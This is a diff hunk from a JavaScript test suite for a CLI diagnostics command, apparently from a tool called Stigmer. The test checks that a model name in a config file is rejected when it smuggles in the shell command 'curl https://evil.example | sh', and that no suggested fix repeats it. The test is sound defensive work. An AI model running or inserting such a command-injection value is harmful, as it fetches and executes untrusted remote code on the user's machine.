@@ -293,7 +293,7 @@ describe('model names from config.yaml are checked against Ollama\'s grammar (ty
       const { report } = await runCli(['doctor', '--json'], machine({ env: { HOME: home } }));
       const config = check(report, 'stigmer.config');
       // Read as Ollama reads it, the '/' splits it into a host "qwen; curl https:" and more.
-      expect(config.message).toBe(`${home}/.stigmer/config.yaml line 4: "qwen; curl https://evil.example | sh" is not a valid model name (its host "qwen; curl https:" holds a character Ollama does not allow there).`);
+      expect(config.message).toBe(`${home}/.stigmer/config.yaml line 4: "qwen; curl https://evil.example | sh" is not a valid model name (its host "qwen; curl https:" holds a character Ollama does not allow there). Stigmer found: the Go CLI of Stigmer's Docker-runner era (found: Stigmer's configuration (~/.stigmer/config.yaml)), whose runner container will share the host's network (--network host, its Linux default).`);
       for (const finding of report.checks) expect(finding.fix ?? '').not.toContain('curl https://evil');
     } finally {
       await rm(home, { recursive: true, force: true });
